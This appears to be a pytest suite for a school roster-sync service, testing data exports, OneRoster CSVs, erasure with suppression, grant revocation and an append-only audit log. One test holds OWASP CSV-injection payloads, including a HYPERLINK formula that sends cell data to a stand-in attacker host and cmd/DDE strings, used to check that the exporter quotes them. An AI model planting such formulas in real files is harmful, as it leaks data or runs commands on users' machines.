"""Data-subject rights (P8, P9): export round-trips, OneRoster CSVs, erase + suppression, the audit log.

On SQLite and PostgreSQL (the ``runtime`` fixture is parametrised by ``database_url``).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
import sqlalchemy.exc
from sqlalchemy import select, text

from emulators.google import GoogleEmulator
from services import oneroster
from services.revoke import revoke_integration
from services.rights import (
    RightsError,
    erase_integration,
    erase_person,
    export_integration,
    export_person,
    lift_suppression,
)
from store import audit, integrations, runs, suppressions
from store.models import AuditEvent, Base, Integration
from store.rights import PersonNotFound
from store.runtime import Runtime
from sync.cycle import run_sync
from tests.conftest import Linker
from tests.google_fixtures import failed_after_an_outage
from tests.helpers import classes, enrollments, people

ACTOR = "admin:test"


def when(moment: object) -> object:
    return None if moment is None else moment.isoformat() + "Z"  # type: ignore[attr-defined]


def provider_ids(emulator: GoogleEmulator) -> set[str]:
    ids = set(emulator.teacher_ids)
    for teacher in emulator.teacher_ids:
        for course in emulator.course_ids_of(teacher):
            ids.update(emulator.student_ids_of(course))
    return ids


def pii_in(haystack: str, emulator: GoogleEmulator) -> list[str]:
    """Canary names, e-mails, photo URLs and raw provider ids found in a text."""
    return [s for s in emulator.personal_strings() | provider_ids(emulator) if s in haystack]


def events_text(runtime: Runtime) -> str:
    return json.dumps([event.as_json() for event in audit.events(runtime.engine)])


def tables_holding(runtime: Runtime, needle: str) -> set[str]:
    found = set()
    with runtime.engine.connect() as connection:
        for table in Base.metadata.sorted_tables:
            if any(needle in repr(tuple(row)) for row in connection.execute(select(table))):
                found.add(table.name)
    return found


def synced_with_a_removed_student(runtime: Runtime, emulator: GoogleEmulator, link: Linker) -> tuple[int, str]:
    """Link teacher 0, sync, then drop one student from one course and sync again (a soft-deleted row)."""
    integration_id = link(0)
    assert run_sync(runtime, integration_id).outcome == "ok"
    course = emulator.course_ids_of(emulator.teacher_ids[0])[0]
    student = emulator.student_ids_of(course)[0]
    emulator.remove_student(course, student)
    assert run_sync(runtime, integration_id).outcome == "ok"
    return integration_id, student


def test_integration_export_says_exactly_what_is_stored(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id, _ = synced_with_a_removed_student(runtime, emulator, link)
    before = audit.count(runtime.engine, "exported")
    export = json.loads(export_integration(runtime, integration_id, actor=ACTOR))

    engine = runtime.engine
    stored_classes = [
        {
            "external_id": c.external_id,
            "name": c.name,
            "section": c.section,
            "state": c.state,
            "removed_at": when(c.removed_at),
        }
        for c in classes(engine, integration_id, current=False)
    ]
    stored_people = [
        {
            "pseudonym": p.pseudonym,
            "role": p.role,
            "display_name": p.display_name,
            "email_address": p.email_address,
            "removed_at": when(p.removed_at),
        }
        for p in people(engine, integration_id, current=False)
    ]
    by_class = {c.id: c.external_id for c in classes(engine, integration_id, current=False)}
    by_person = {p.id: p.pseudonym for p in people(engine, integration_id, current=False)}
    stored_enrollments = [
        {
            "class_external_id": by_class[e.class_id],
            "pseudonym": by_person[e.person_id],
            "role": e.role,
            "removed_at": when(e.removed_at),
        }
        for e in enrollments(engine, integration_id, current=False)
    ]
    key = json.dumps
    assert sorted(map(key, export["classes"])) == sorted(map(key, stored_classes))
    assert sorted(map(key, export["people"])) == sorted(map(key, stored_people))
    assert sorted(map(key, export["enrollments"])) == sorted(map(key, stored_enrollments))
    assert any(p["removed_at"] for p in export["people"]), "soft-deleted rows are exported too"
    assert export["integration"]["consent_basis"] == "school"  # recorded at link time
    state = integrations.load(engine, integration_id)
    assert export["integration"]["granted_scopes"] == sorted(state.granted_scopes)
    assert audit.count(engine, "exported") == before + 1
    assert not pii_in(events_text(runtime), emulator)


def test_person_export_round_trips(runtime: Runtime, emulator: GoogleEmulator, link: Linker) -> None:
    integration_id = link(0)
    run_sync(runtime, integration_id)
    tenant = integrations.load(runtime.engine, integration_id).tenant
    teacher = runtime.pseudonymiser.pseudonym("google", tenant, emulator.teacher_ids[0])
    export = export_person(runtime, teacher, actor=ACTOR)
    [record] = export["records"]
    [row] = [p for p in people(runtime.engine, integration_id) if p.pseudonym == teacher]
    assert (record["role"], record["display_name"], record["email_address"]) == (
        row.role,
        row.display_name,
        row.email_address,
    )
    stored = {(e.class_id, e.role) for e in enrollments(runtime.engine, integration_id) if e.person_id == row.id}
    names = {c.id: c.external_id for c in classes(runtime.engine, integration_id)}
    assert {(e["class_external_id"], e["role"]) for e in record["enrollments"]} == {
        (names[class_id], role) for class_id, role in stored
    }
    assert record["integration"] == {
        "id": integration_id,
        "provider": "google",
        "tenant": tenant,
        "consent_basis": "school",
    }
    [event] = [e for e in audit.events(runtime.engine) if e.action == "exported"]
    assert event.details["pseudonym"] == teacher and event.integration_id == integration_id
    with pytest.raises(PersonNotFound):
        export_person(runtime, "0" * 64, actor=ACTOR)
    with pytest.raises(RightsError):
        export_person(runtime, "Jane Doe", actor=ACTOR)


def test_oneroster_csv_files_parse_and_name_students_by_pseudonym_only(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id, _ = synced_with_a_removed_student(runtime, emulator, link)
    archive = zipfile.ZipFile(io.BytesIO(export_integration(runtime, integration_id, actor=ACTOR, oneroster=True)))
    assert set(archive.namelist()) == {"manifest.csv", "classes.csv", "users.csv", "roles.csv", "enrollments.csv"}

    def rows(name: str) -> tuple[list[str], list[dict[str, str]]]:
        reader = csv.DictReader(io.StringIO(archive.read(name).decode()))
        return list(reader.fieldnames or []), list(reader)

    header, class_rows = rows("classes.csv")
    assert header == list(oneroster.CLASSES_COLUMNS)
    assert {"sourcedId", "title", "classType", "schoolSourcedId"} <= set(header)
    assert {r["sourcedId"] for r in class_rows} == {c.external_id for c in classes(runtime.engine, integration_id)}

    header, user_rows = rows("users.csv")
    assert {"sourcedId", "enabledUser", "givenName", "familyName", "email"} <= set(header)
    current = people(runtime.engine, integration_id)
    assert {r["sourcedId"] for r in user_rows} == {p.pseudonym for p in current}
    students = {p.pseudonym for p in current if p.role == "student"}
    for row in user_rows:
        if row["sourcedId"] in students:
            assert {k: v for k, v in row.items() if v} == {
                "sourcedId": row["sourcedId"],
                "enabledUser": "true",
                "primaryOrgSourcedId": integrations.load(runtime.engine, integration_id).tenant,
            }

    header, enrollment_rows = rows("enrollments.csv")
    assert {"sourcedId", "classSourcedId", "userSourcedId", "role"} <= set(header)
    assert len(enrollment_rows) == len(enrollments(runtime.engine, integration_id))
    _, role_rows = rows("roles.csv")
    assert {(r["userSourcedId"], r["role"]) for r in role_rows} == {(p.pseudonym, p.role) for p in current}
    _, manifest = rows("manifest.csv")
    assert {"propertyName": "oneroster.version", "value": "1.2"} in manifest

    everything = "".join(archive.read(name).decode() for name in archive.namelist())
    teacher_names = {p.display_name for p in current if p.display_name} | {
        p.email_address for p in current if p.email_address
    }
    leaked = [
        s for s in pii_in(everything, emulator) if s not in teacher_names and not any(s in n for n in teacher_names)
    ]
    assert not leaked, "nothing but the account holders' own name and e-mail"


FORMULAS = {  # OWASP's CSV-injection payloads, the same behind blanks or another locale's separator -> the cell
    '=HYPERLINK("https://attacker.test/?leak="&A1,"Click")': '\'=HYPERLINK("https://attacker.test/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t'=1+1",  # the tab is a separator too: the cell after it is quoted as well
    "\r=1+1": "'\r'=1+1",  # so is a line break
    " =1+1": "' =1+1",
    "Algebra;=1+1": "Algebra;'=1+1",
    "Algebra\t@SUM(1+1)": "Algebra\t'@SUM(1+1)",
}
PAYLOADS = list(FORMULAS)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell a spreadsheet could make of a file: read as the CSV it is, and split the worst way a reader
    of another locale could (on ``;`` or tab and on every line break, blind to quotes), double quotes dropped."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for separator in (";", "\t"):
        lines = re.split(r"\r\n|\r|\n", text)
        cells += [piece.replace('"', "") for line in lines for piece in line.split(separator)]
    return cells


def test_oneroster_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    """Class titles, sections and teachers' names come from the provider: none is opened as a formula."""
    teacher = emulator.teacher_ids[0]
    courses = emulator.course_ids_of(teacher, states={"ACTIVE"})
    teachers = emulator.teacher_ids
    assert len(courses) == len(teachers) == 3
    for index, course in enumerate(courses):
        emulator.rename_course(course, name=PAYLOADS[index], section=PAYLOADS[3 + index])
    for index, one in enumerate(teachers):
        emulator.name_user(one, PAYLOADS[6 + index], "Teacher")
    integration_id = link(0)
    assert run_sync(runtime, integration_id).outcome == "ok"

    archive = zipfile.ZipFile(io.BytesIO(export_integration(runtime, integration_id, actor=ACTOR, oneroster=True)))
    texts = {name: archive.read(name).decode() for name in archive.namelist()}
    read = {name: list(csv.DictReader(io.StringIO(content))) for name, content in texts.items()}
    assert {(row["title"], row["classCode"]) for row in read["classes.csv"]} == {
        (FORMULAS[PAYLOADS[i]], FORMULAS[PAYLOADS[3 + i]]) for i in range(3)
    }
    names = {row["givenName"] for row in read["users.csv"] if row["givenName"]}
    assert names == {FORMULAS[PAYLOADS[i]] + " Teacher" for i in range(6, 9)}
    for name, content in texts.items():
        dangerous = [cell for cell in spreadsheet_cells(content) if cell.lstrip(" ").startswith(TRIGGERS)]
        assert dangerous == [], name
    stored = json.loads(export_integration(runtime, integration_id, actor=ACTOR))  # JSON is no spreadsheet
    assert {c["name"] for c in stored["classes"]} == set(PAYLOADS[:3])


@pytest.mark.parametrize(
    "value", ["Maths - Year 9", "Maths, -2 group", "O'Brien", "Period 3; Room 12", "C++ @ lunch", "'=already text", ""]
)
def test_oneroster_text_that_starts_no_formula_is_written_as_it_is(value: str) -> None:
    assert oneroster.spreadsheet_safe(value) == value


def test_erase_then_resync_keeps_the_person_out_until_the_suppression_is_lifted(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id = link(0)
    run_sync(runtime, integration_id)
    tenant = integrations.load(runtime.engine, integration_id).tenant
    course = emulator.course_ids_of(emulator.teacher_ids[0])[0]
    student_id = emulator.student_ids_of(course)[0]
    pseudonym = runtime.pseudonymiser.pseudonym("google", tenant, student_id)
    assert [p for p in people(runtime.engine, integration_id, current=False) if p.pseudonym == pseudonym]
    enrolled = len(enrollments(runtime.engine, integration_id))
    assert tables_holding(runtime, pseudonym) == {"people", "change_events"}  # the platform was told of them

    result = erase_person(runtime, pseudonym, actor=ACTOR)
    assert result.people == 1 and result.enrollments >= 1 and result.revoked == []
    assert not [p for p in people(runtime.engine, integration_id, current=False) if p.pseudonym == pseudonym]
    assert len(enrollments(runtime.engine, integration_id)) == enrolled - result.enrollments
    assert [(e.provider, e.tenant, e.pseudonym) for e in suppressions.entries(runtime.engine)] == [
        ("google", tenant, pseudonym)
    ]
    # Erase leaves nothing else; the feed keeps only its person.erased event (P12).
    assert tables_holding(runtime, pseudonym) == {"suppressions", "audit_events", "change_events"}

    assert run_sync(runtime, integration_id).outcome == "ok"  # Google still lists the student ...
    assert not [p for p in people(runtime.engine, integration_id, current=False) if p.pseudonym == pseudonym]
    assert len(enrollments(runtime.engine, integration_id)) == enrolled - result.enrollments  # ... kept out

    assert lift_suppression(runtime, pseudonym, actor=ACTOR) == 1
    assert suppressions.entries(runtime.engine) == []
    run_sync(runtime, integration_id)
    assert [p for p in people(runtime.engine, integration_id) if p.pseudonym == pseudonym]
    assert len(enrollments(runtime.engine, integration_id)) == enrolled
    with pytest.raises(RightsError):
        lift_suppression(runtime, pseudonym, actor=ACTOR)

    assert audit.count(runtime.engine, "erased") == 1
    assert audit.count(runtime.engine, "suppression_lifted") == 1
    assert integrations.load(runtime.engine, integration_id).status == "active"
    assert not pii_in(events_text(runtime), emulator)


def test_erasing_the_teacher_who_owns_the_grant_revokes_it_first(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id = link(0)
    other = link(1)
    run_sync(runtime, integration_id)
    run_sync(runtime, other)
    tenant = integrations.load(runtime.engine, integration_id).tenant
    owner = runtime.pseudonymiser.pseudonym("google", tenant, emulator.teacher_ids[0])

    result = erase_person(runtime, owner, actor=ACTOR)
    assert result.revoked == [integration_id]
    state = integrations.load(runtime.engine, integration_id)
    assert state.status == "revoked" and state.token_blob is None
    assert [r.path for r in emulator.requests if r.path == "/revoke"] == ["/revoke"]
    assert integrations.load(runtime.engine, other).status == "active"  # another teacher's grant is not theirs
    assert ("google", tenant, owner) in {
        (e.provider, e.tenant, e.pseudonym) for e in suppressions.entries(runtime.engine)
    }
    [event] = [e for e in audit.events(runtime.engine) if e.action == "erased"]
    assert event.details["revoked_first"] == [integration_id]


def test_erase_an_integration_revokes_then_removes_its_record(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id = link(0)
    run_sync(runtime, integration_id)
    result = erase_integration(runtime, integration_id, actor=ACTOR)
    assert result.revoked_first and result.rows >= 2  # at least the record and its sync run
    with runtime.engine.connect() as connection:
        assert connection.execute(select(Integration.id)).all() == []
    assert people(runtime.engine, integration_id, current=False) == []
    assert emulator.requests[-1].path == "/revoke"
    erased = [e for e in audit.events(runtime.engine, integration_id) if e.action == "erased"]
    assert len(erased) == 1 and erased[0].consent_basis == "integration erased"
    with pytest.raises(integrations.UnknownIntegration):
        erase_integration(runtime, integration_id, actor=ACTOR)


def test_the_audit_log_is_append_only(runtime: Runtime, link: Linker) -> None:
    link(0)
    for statement in ("UPDATE audit_events SET actor = 'someone else'", "DELETE FROM audit_events"):
        with pytest.raises(sqlalchemy.exc.DatabaseError), runtime.engine.begin() as connection:
            connection.execute(text(statement))
    with runtime.engine.connect() as connection:
        assert connection.execute(select(AuditEvent.actor)).scalars().all() == ["teacher:teacher-0"]


def test_unsafe_audit_details_are_refused(runtime: Runtime) -> None:
    with pytest.raises(audit.UnsafeDetail), runtime.engine.begin() as connection:
        audit.record(connection, action="x", actor=ACTOR, details={"name": "Jane Doe"})
    with pytest.raises(audit.UnsafeDetail), runtime.engine.begin() as connection:
        audit.record(connection, action="x", actor=ACTOR, details={"email": "jane@example.org"})


def test_an_erase_during_a_sync_is_not_undone_by_the_page_in_flight(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    """The erase commits while the sync waits for the very page that lists the person: that page drops them."""
    integration_id = link(0)
    course = emulator.course_ids_of(emulator.teacher_ids[0])[0]
    added = [emulator.add_student(course) for _ in range(35)]
    run_sync(runtime, integration_id)
    tenant = integrations.load(runtime.engine, integration_id).tenant
    pseudonym = runtime.pseudonymiser.pseudonym("google", tenant, added[-1])  # listed on a later page
    fired: list[bool] = []
    batches: list[str] = []

    def erase_mid_page(record: object) -> None:
        # The second roster batch carries the follow-up page of the long roster (the first, every first page).
        if getattr(record, "path", "") == "/batch":
            batches.append("/batch")
            if len(batches) == 2 and not fired:
                fired.append(True)
                erase_person(runtime, pseudonym, actor=ACTOR)

    emulator.add_hook(erase_mid_page)
    assert run_sync(runtime, integration_id).outcome == "ok"
    assert fired
    assert not [p for p in people(runtime.engine, integration_id, current=False) if p.pseudonym == pseudonym]
    assert len(people(runtime.engine, integration_id, role="student")) > 30  # everyone else is still there


def test_each_operation_leaves_exactly_one_audit_event_and_no_canary(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    from services.retention import mark_account_deleted, purge_expired

    def total() -> int:
        return len(audit.events(runtime.engine))

    integration_id = link(0)
    tenant = integrations.load(runtime.engine, integration_id).tenant
    course = emulator.course_ids_of(emulator.teacher_ids[0])[0]
    student = runtime.pseudonymiser.pseudonym("google", tenant, emulator.student_ids_of(course)[0])
    operations = {
        "synced": lambda: run_sync(runtime, integration_id),
        "exported": lambda: export_integration(runtime, integration_id, actor=ACTOR),
        "exported ": lambda: export_integration(runtime, integration_id, actor=ACTOR, oneroster=True),
        "exported  ": lambda: export_person(runtime, student, actor=ACTOR),
        "erased": lambda: erase_person(runtime, student, actor=ACTOR),
        "suppression_lifted": lambda: lift_suppression(runtime, student, actor=ACTOR),
        "account_deleted": lambda: mark_account_deleted(runtime, "teacher-0", actor=ACTOR),
        "purged_expired": lambda: purge_expired(runtime),
    }
    for action, operation in operations.items():
        before = total()
        operation()
        events = audit.events(runtime.engine)
        assert len(events) == before + 1, action
        assert events[-1].action == action.strip()
    assert not pii_in(events_text(runtime), emulator)


def test_any_sync_outcome_is_audited_as_a_safe_word(runtime: Runtime, link: Linker) -> None:
    integration_id = link(0)
    run_id = runs.start_run(runtime.engine, integration_id)
    with pytest.raises(sqlalchemy.exc.IntegrityError):  # ck_sync_runs_outcome: only the outcomes the code writes
        runs.finish_run(runtime.engine, run_id, "skipped: odd <outcome>", classes_seen=1)
    assert audit.word("skipped: odd <outcome>") == "skipped:_odd__outcome_"
    runs.finish_run(runtime.engine, run_id, "skipped:busy", classes_seen=1)
    [event] = [e for e in audit.events(runtime.engine) if e.action == "synced"]  # none for the refused outcome
    assert event.details == {"outcome": "skipped:busy", "classes_seen": 1}


# --- issue 18, item 10: a `failed` integration still holds a live grant ----------------------------------
def test_erasing_a_failed_integration_revokes_its_grant_first(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id = link(0)
    run_sync(runtime, integration_id)
    failed_after_an_outage(runtime, emulator, integration_id)
    assert emulator.live_grants(emulator.teacher_ids[0]) == 1

    result = erase_integration(runtime, integration_id, actor=ACTOR)
    assert result.revoked_first
    assert emulator.live_grants(emulator.teacher_ids[0]) == 0
    with runtime.engine.connect() as connection:
        assert connection.execute(select(Integration.id)).all() == []
    assert "provider_revoked" in [e.action for e in audit.events(runtime.engine, integration_id)]


def test_erasing_the_owner_of_a_failed_integration_ends_it_and_resume_cannot_bring_it_back(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    integration_id = link(0)
    run_sync(runtime, integration_id)
    failed_after_an_outage(runtime, emulator, integration_id)
    tenant = integrations.load(runtime.engine, integration_id).tenant
    owner = runtime.pseudonymiser.pseudonym("google", tenant, emulator.teacher_ids[0])

    result = erase_person(runtime, owner, actor=ACTOR)
    assert result.revoked == [integration_id]
    state = integrations.load(runtime.engine, integration_id)
    assert state.status == "revoked" and state.token_blob is None
    assert emulator.live_grants(emulator.teacher_ids[0]) == 0
    assert integrations.resume_failed(runtime.engine, integration_id, actor=ACTOR) is False
    seen = len(emulator.requests)
    assert run_sync(runtime, integration_id).outcome == "skipped:revoked"
    assert emulator.requests[seen:] == []  # the erased teacher's token reads nothing any more


def test_revoking_a_failed_integration_ends_its_grant_at_the_provider(
    runtime: Runtime, emulator: GoogleEmulator, link: Linker
) -> None:
    """The fourth path that ends an integration, kept as it was: whatever the status, the grant ends at Google."""
    integration_id = link(0)
    run_sync(runtime, integration_id)
    failed_after_an_outage(runtime, emulator, integration_id)
    result = revoke_integration(runtime, integration_id, actor=ACTOR)
    assert result.provider_revoked and not result.already_revoked
    assert emulator.live_grants(emulator.teacher_ids[0]) == 0
    assert integrations.resume_failed(runtime.engine, integration_id, actor=ACTOR) is False
